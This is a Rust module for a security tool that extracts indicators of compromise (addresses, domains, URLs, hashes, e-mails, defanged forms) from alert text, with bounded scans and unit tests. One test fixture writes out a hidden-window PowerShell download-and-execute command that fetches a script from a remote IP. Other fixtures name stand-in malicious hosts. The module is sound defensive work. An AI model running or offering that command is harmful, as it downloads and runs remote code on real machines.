//! Indicators in free text (incident and alert descriptions, command lines, URLs): IPv4 and
//! IPv6 addresses, domains, URLs, MD5/SHA-1/SHA-256 hashes and e-mail addresses, defanged
//! forms included. The scan is bounded in bytes, candidates and results, and linear in the
//! text it reads: hostile text costs at most the bounds.

use super::names::public_suffix_labels;
use super::{normalise, read_ip, refang};
use crate::sentinel::Indicator;
use std::collections::HashSet;

/// Bounds of one scan.
#[derive(Debug, Clone, Copy)]
pub struct ExtractLimits {
    /// Bytes of the text read (the rest is not scanned).
    pub max_bytes: usize,
    /// Pieces of text examined before the scan stops.
    pub max_candidates: usize,
    /// Distinct indicators kept.
    pub max_iocs: usize,
}

impl Default for ExtractLimits {
    fn default() -> Self {
        Self {
            max_bytes: 64 * 1024,
            max_candidates: 20_000,
            max_iocs: 100,
        }
    }
}

/// What a scan found.
#[derive(Debug, Default, Clone, PartialEq)]
pub struct Extracted {
    /// Distinct indicators, in the order first found (at most `max_iocs`).
    pub iocs: Vec<Indicator>,
    /// Further distinct indicators found and not kept.
    pub more: usize,
    /// The text was longer than `max_bytes`; only its start was read.
    pub cut_bytes: bool,
    /// The scan stopped at `max_candidates` pieces.
    pub cut_candidates: bool,
    /// Address-like pieces not read as addresses, and why (at most five).
    pub refused: Vec<String>,
}

/// Names of two labels whose last label is both a top-level domain and a common file
/// extension (`script.py`, `notes.md`, `archive.zip`): in free text these are file names.
const FILE_EXTENSIONS: &[&str] = &[
    "zip", "mov", "py", "sh", "pl", "pm", "md", "rs", "so", "cc", "ps", "ml", "mk", "cat", "sys",
    "exe", "dll",
];

const URL_SCHEMES: &[&str] = &["http", "https", "ftp", "ftps"];

struct Scan<'l> {
    limits: &'l ExtractLimits,
    out: Extracted,
    seen: HashSet<Indicator>,
    candidates: usize,
}

fn is_word_break(c: char) -> bool {
    c.is_whitespace() || matches!(c, '"' | '<' | '>' | '`' | '{' | '}' | '|' | '\\' | '^')
}

fn is_piece_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '.' | ':' | '@' | '%' | '-' | '_')
}

/// Percent-decodes `text` (invalid escapes are kept as they are).
fn percent_decode(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' && i + 2 < bytes.len() {
            if let Ok(v) = u8::from_str_radix(&text[i + 1..i + 3], 16) {
                out.push(v);
                i += 3;
                continue;
            }
        }
        out.push(bytes[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

impl Scan<'_> {
    fn full(&self) -> bool {
        self.candidates >= self.limits.max_candidates
    }

    fn add(&mut self, i: Indicator) {
        if self.seen.contains(&i) {
            return;
        }
        if self.out.iocs.len() < self.limits.max_iocs {
            self.seen.insert(i.clone());
            self.out.iocs.push(i);
        } else if self.seen.len() < self.limits.max_iocs * 10 {
            self.seen.insert(i);
            self.out.more += 1;
        }
    }

    fn refuse(&mut self, why: String) {
        if self.out.refused.len() < 5 {
            self.out.refused.push(why);
        }
    }

    fn word(&mut self, word: &str, depth: u8) {
        let mut rest = word;
        while !rest.is_empty() && !self.full() {
            let Some(sep) = rest.find("://") else {
                self.pieces(rest);
                return;
            };
            let scheme_start = rest[..sep]
                .char_indices()
                .rev()
                .take_while(|(_, c)| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
                .last()
                .map(|(i, _)| i)
                .unwrap_or(sep);
            let scheme = rest[scheme_start..sep].to_ascii_lowercase();
            self.pieces(&rest[..scheme_start]);
            let after = &rest[sep + 3..];
            if !URL_SCHEMES.contains(&scheme.as_str()) {
                rest = after;
                continue;
            }
            let url = rest[scheme_start..]
                .trim_end_matches(['.', ',', ';', ':', '!', '?', ')', ']', '\'']);
            self.candidates += 1;
            self.url(url, depth);
            // The URL ends at the first word break; `rest` is inside one word, so it ends here.
            return;
        }
    }

    /// A URL, its host, and the indicators hidden in its path and query
    /// (`?u=http%3A%2F%2Fevil…`; a URL found there is read the same way, one level deep). A URL whose host is neither an address nor a public name
    /// is not kept.
    fn url(&mut self, url: &str, depth: u8) {
        let Ok(ind) = normalise("url", url) else {
            return;
        };
        let Ok(parsed) = url::Url::parse(&ind.value) else {
            return;
        };
        let host = match parsed.host() {
            Some(url::Host::Domain(d)) => {
                let d = d.to_ascii_lowercase();
                match normalise("domain", &d) {
                    Ok(name)
                        if public_suffix_labels(&name.value)
                            .is_some_and(|k| name.value.split('.').count() > k) =>
                    {
                        name
                    }
                    _ => return,
                }
            }
            Some(url::Host::Ipv4(v4)) => Indicator {
                kind: "ipv4".into(),
                value: v4.to_string(),
            },
            Some(url::Host::Ipv6(v6)) => Indicator {
                kind: "ipv6".into(),
                value: v6.to_string(),
            },
            None => return,
        };
        self.add(ind);
        self.add(host);
        let tail = percent_decode(&parsed[url::Position::BeforePath..]);
        for w in tail.split(is_word_break).filter(|w| !w.is_empty()) {
            match depth {
                0 => self.pieces(w),
                _ => self.word(w, depth - 1),
            }
        }
    }

    fn pieces(&mut self, text: &str) {
        for piece in text.split(|c: char| !is_piece_char(c)) {
            if self.full() {
                return;
            }
            let piece = piece.trim_matches('.');
            if piece.len() < 4 {
                continue;
            }
            self.candidates += 1;
            self.piece(piece);
        }
    }

    fn name(&mut self, name: &str, from_text: bool) {
        let name = name.strip_suffix('.').unwrap_or(name);
        let labels = name.split('.').count();
        let Some(k) = public_suffix_labels(name) else {
            return;
        };
        if labels <= k {
            return;
        }
        if from_text && labels == 2 {
            let tld = name.rsplit('.').next().unwrap_or("");
            if FILE_EXTENSIONS.contains(&tld) {
                return;
            }
        }
        if let Ok(i) = normalise("domain", name) {
            self.add(i);
        }
    }

    fn piece(&mut self, piece: &str) {
        if let Some((local, domain)) = piece.rsplit_once('@') {
            if !local.is_empty() && !domain.is_empty() {
                if let Ok(email) = normalise("email", piece) {
                    let domain = domain.to_ascii_lowercase();
                    if public_suffix_labels(&domain).is_some_and(|k| domain.split('.').count() > k)
                    {
                        self.add(email);
                        self.name(&domain, false);
                    }
                }
            }
            return;
        }
        if piece.contains(':') {
            // address:port and name:port
            if let Some((host, port)) = piece.rsplit_once(':') {
                if !port.is_empty()
                    && port.len() <= 5
                    && port.bytes().all(|b| b.is_ascii_digit())
                    && !host.contains(':')
                {
                    return self.piece(host);
                }
            }
            if piece.matches(':').count() >= 2 {
                if let Some(Ok(ip)) = read_ip(piece) {
                    if let Ok(i) = normalise("ip", &ip.to_string()) {
                        self.add(i);
                    }
                }
            }
            return;
        }
        if matches!(piece.len(), 32 | 40 | 64) && piece.bytes().all(|b| b.is_ascii_hexdigit()) {
            if let Ok(i) = normalise("filehash", piece) {
                self.add(i);
            }
            return;
        }
        let dots = piece.matches('.').count();
        if dots == 3
            && piece.split('.').all(|p| {
                !p.is_empty()
                    && p.bytes()
                        .all(|b| b.is_ascii_hexdigit() || b == b'x' || b == b'X')
            })
        {
            match read_ip(piece) {
                Some(Ok(_)) => {
                    if let Ok(i) = normalise("ip", piece) {
                        self.add(i);
                    }
                }
                Some(Err(why)) => self.refuse(why),
                None => {}
            }
            return;
        }
        if dots >= 1 {
            self.name(&piece.to_ascii_lowercase(), true);
        }
    }
}

/// The indicators in `text`, within `limits`.
pub fn extract(text: &str, limits: &ExtractLimits) -> Extracted {
    let mut end = text.len().min(limits.max_bytes);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    let refanged = refang(&text[..end]);
    let mut scan = Scan {
        limits,
        out: Extracted {
            cut_bytes: end < text.len(),
            ..Default::default()
        },
        seen: HashSet::new(),
        candidates: 0,
    };
    for word in refanged.split(is_word_break).filter(|w| !w.is_empty()) {
        if scan.full() {
            scan.out.cut_candidates = true;
            break;
        }
        scan.word(word, 1);
    }
    if scan.full() {
        scan.out.cut_candidates = true;
    }
    scan.out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<(String, String)> {
        extract(text, &ExtractLimits::default())
            .iocs
            .into_iter()
            .map(|i| (i.kind, i.value))
            .collect()
    }

    fn has(list: &[(String, String)], kind: &str, value: &str) -> bool {
        list.iter().any(|(k, v)| k == kind && v == value)
    }

    #[test]
    fn every_kind_is_found_defanged_or_not() {
        let text = "Beacon to hxxps://evil-c2[.]com/gate.php?id=1 from 8.8.4[.]4 and \
                    2606:4700::1111, dropper 44d88612fea8a8f36de82e1278abb02f \
                    (sha1 3395856ce81f2b7382dee72602f798b642f14140, sha256 \
                    275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f); \
                    reply-to admin[at]phish-mail[.]net; also bad.co.uk:8443 and 1.1.1.1:53.";
        let f = found(text);
        for (kind, value) in [
            ("url", "https://evil-c2.com/gate.php?id=1"),
            ("domain", "evil-c2.com"),
            ("ipv4", "8.8.4.4"),
            ("ipv6", "2606:4700::1111"),
            ("filehash", "44d88612fea8a8f36de82e1278abb02f"),
            ("filehash", "3395856ce81f2b7382dee72602f798b642f14140"),
            (
                "filehash",
                "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
            ),
            ("email", "admin@phish-mail.net"),
            ("domain", "phish-mail.net"),
            ("domain", "bad.co.uk"),
            ("ipv4", "1.1.1.1"),
        ] {
            assert!(has(&f, kind, value), "{kind} {value} not in {f:?}");
        }
    }

    #[test]
    fn command_lines_yield_addresses_not_file_names() {
        let f = found(
            r#"powershell.exe -nop -w hidden -c "IEX (New-Object System.Net.WebClient).DownloadString('http://185.220.101.4/a.ps1')"; C:\tools\run.py notes.md"#,
        );
        assert!(has(&f, "url", "http://185.220.101.4/a.ps1"), "{f:?}");
        assert!(has(&f, "ipv4", "185.220.101.4"), "{f:?}");
        for not in [
            "powershell.exe",
            "system.net.webclient",
            "run.py",
            "notes.md",
            "a.ps1",
        ] {
            assert!(!f.iter().any(|(_, v)| v == not), "{not} in {f:?}");
        }
    }

    #[test]
    fn nested_urls_in_queries_are_found_one_level_deep() {
        let f = found("https://redirect.example.com/?u=http%3A%2F%2Fevil.org%2Fx%3Fip%3D9.9.9.9");
        assert!(has(&f, "url", "http://evil.org/x?ip=9.9.9.9"), "{f:?}");
        assert!(has(&f, "domain", "evil.org"), "{f:?}");
        assert!(has(&f, "ipv4", "9.9.9.9"), "{f:?}");
    }

    #[test]
    fn confusing_forms_are_refused_or_ignored() {
        let e = extract(
            "evil[.].com 1[.]2[.]3[.]4[.]5 0x7f.0.0.1 010.010.010.010 hxxp://[.]/ \
             ..com a@b @evil.com 999.1.1.1 fe80::1%25eth0 [.]evil[.]com[.]",
            &ExtractLimits::default(),
        );
        let values: Vec<&str> = e.iocs.iter().map(|i| i.value.as_str()).collect();
        assert!(values.contains(&"evil.com"), "{values:?}");
        for bad in ["1.2.3.4", "127.0.0.1", "8.8.8.8", "999.1.1.1"] {
            assert!(!values.contains(&bad), "{bad} in {values:?}");
        }
        assert_eq!(e.refused.len(), 2, "{:?}", e.refused);
        assert!(e.refused[0].contains("127.0.0.1"), "{:?}", e.refused);
    }

    #[test]
    fn hostile_text_stays_within_the_bounds() {
        // 1 MiB of text holding about 100,000 distinct candidate addresses.
        let mut text = String::new();
        let mut n = 0u32;
        while text.len() < 1 << 20 {
            text.push_str(&format!(
                "{}.{}.{}.{} ",
                11 + n / 65536 % 200,
                n / 256 % 256,
                n % 256,
                7
            ));
            n += 1;
        }
        let e = extract(&text, &ExtractLimits::default());
        assert!(e.cut_bytes);
        assert_eq!(e.iocs.len(), 100);
        assert!(e.more > 0);
        let small = ExtractLimits {
            max_candidates: 50,
            ..Default::default()
        };
        let e = extract(&text, &small);
        assert!(e.cut_candidates && e.iocs.len() <= 50);
    }
}
